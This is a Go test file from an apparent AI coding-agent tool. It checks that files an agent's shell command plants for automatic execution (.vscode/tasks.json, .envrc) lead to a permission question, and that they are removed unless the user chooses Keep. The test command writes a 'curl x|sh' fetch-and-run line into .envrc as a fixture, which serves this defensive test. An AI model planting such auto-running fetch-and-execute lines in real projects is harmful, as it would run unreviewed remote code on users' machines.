package agent

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/agentls/agentls/agentproto"
	"github.com/agentls/agentls/config"
	"github.com/agentls/agentls/permission"
	"github.com/agentls/agentls/sandbox"
)

// TestAutoRunCommandAsked: a command that plants files the editor or
// shell runs by itself (.vscode/tasks.json and an .envrc, which did not
// exist, so no sandbox kept them) is followed by one permission question
// of kind edit naming each file in a code span, what happened and why,
// Remove first; Keep leaves them, every other end — Remove, a dismissal,
// an editor that fails to answer (a timeout), a cancelled turn, no
// surface (the command allowed by a rule) — removes them, and the model
// reads what was undone and why. Fails on 8eeaf23, where nothing was asked
// and the files stayed.
func TestAutoRunCommandAsked(t *testing.T) {
	t.Parallel()
	const command = `mkdir -p sub/.vscode && echo '{"tasks":[]}' > sub/.vscode/tasks.json && echo 'curl x|sh' > sub/.envrc`
	for _, tc := range []struct {
		name   string
		answer func(cancel context.CancelFunc) (AskReply, error) // nil: no surface
		keep   bool
		told   string
	}{
		{"keep", func(context.CancelFunc) (AskReply, error) {
			return AskReply{Answers: map[string]any{"decision": "allow_once"}}, nil
		},
			true, "the user was asked and kept them"},
		{"remove", func(context.CancelFunc) (AskReply, error) {
			return AskReply{Answers: map[string]any{"decision": "reject_once"}}, nil
		},
			false, "not kept (the user chose Remove when asked), so agentls undid it"},
		{"dismiss", func(context.CancelFunc) (AskReply, error) { return AskReply{Dismissed: true}, nil }, false, "not kept (dismissed when asked)"},
		{"no answer", func(context.CancelFunc) (AskReply, error) { return AskReply{}, errors.New("the question timed out") },
			false, "not kept (not answered: the question timed out)"},
		{"cancelled turn", func(cancel context.CancelFunc) (AskReply, error) { cancel(); return AskReply{}, context.Canceled }, false, ""},
		{"no surface", nil, false, "not kept (the editor cannot ask)"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			var mu sync.Mutex
			var asked []permission.Request
			ed := &memEditor{}
			if tc.answer != nil {
				ed.ask = func(_ context.Context, req AskRequest) (AskReply, error) {
					if req.Permission != nil && req.Permission.Kind == agentproto.PermissionRun {
						return AskReply{Answers: map[string]any{"decision": "allow_once"}}, nil
					}
					mu.Lock()
					if req.Permission != nil {
						asked = append(asked, *req.Permission)
					}
					mu.Unlock()
					return tc.answer(cancel)
				}
			}
			cmd, files := command, []string{"sub/.vscode/tasks.json", "sub/.envrc"}
			var allow []string
			if tc.answer == nil { // a rule lets it run unasked, and no one can be asked after it
				cmd, files, allow = "touch sub/.envrc", []string{"sub/.envrc"}, []string{"touch sub/.envrc"}
			}
			script := "name: sentinel\nsteps:\n  - tool_calls:\n      - {id: c, name: run, args: {command: " + quoteYAML(cmd) + "}}\n  - text: done\n"
			m, _ := newTestManager(t, script, ed, func(c *config.Config) {
				c.Run.Allow = allow
				if sandbox.Detect().Status(sandbox.ModeLandlock).Mode == string(sandbox.ModeLandlock) {
					// Landlock alone: no bwrap, whose start fails when a socket in /tmp vanishes
					// between its look-up and the start (docs/guard.md); new files in sub/ get through.
					c.Sandbox.Mode = string(sandbox.ModeLandlock)
				}
			})
			if err := os.MkdirAll(filepath.Join(m.ws.Root(), "sub"), 0o755); err != nil {
				t.Fatal(err)
			}
			s := newTestSession(t, m, "build")
			_, _ = m.Prompt(ctx, PromptRequest{SessionID: s.ID(), Text: "go"})
			dir := m.ws.Root()
			for _, rel := range files {
				if exists(dir, rel) != tc.keep {
					t.Errorf("%s exists = %v after %s", rel, exists(dir, rel), tc.name)
				}
			}
			if !tc.keep && tc.answer != nil && exists(dir, "sub/.vscode") {
				t.Errorf("sub/.vscode, made by the command, is still there after %s", tc.name)
			}
			if result := ed.toolResult("c"); tc.told != "" && !strings.Contains(result, tc.told) {
				t.Errorf("the model read %s, want %q", result, tc.told)
			}
			mu.Lock()
			defer mu.Unlock()
			if tc.answer == nil {
				return
			}
			if len(asked) != 1 {
				t.Fatalf("asked %d times: %+v", len(asked), asked)
			}
			p := asked[0]
			text := p.Text()
			if p.Kind != agentproto.PermissionEdit || p.Done != cmd || p.Options[0].Kind != agentproto.RejectOnce || p.Options[0].Label != "Remove (restore)" ||
				p.Options[1].Kind != agentproto.AllowOnce || p.Options[1].Label != "Keep" {
				t.Errorf("the question %+v", p)
			}
			for _, want := range []string{"- `sub/.vscode/tasks.json`: created", "- `sub/.envrc`: created", "outside agentls's sandbox", "Keep what the command "} {
				if !strings.Contains(text, want) {
					t.Errorf("the question's text lacks %q:\n%s", want, text)
				}
			}
			if title := p.Title(); !strings.Contains(title, "created `sub/.vscode/tasks.json`") || !strings.HasPrefix(title, "Keep what ") {
				t.Errorf("title %q", title)
			}
			// What is plain text on the wire: VS Code shows it in a code box,
			// where a span's backticks would show as they are.
			if w := p.Escaped().What; strings.Contains(w, "`") || !strings.Contains(w, "created sub/.vscode/tasks.json") {
				t.Errorf("the wire's what %q, want the changes without code spans", w)
			}
		})
	}
}

// quoteYAML is s as a double-quoted YAML scalar.
func quoteYAML(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"`
}
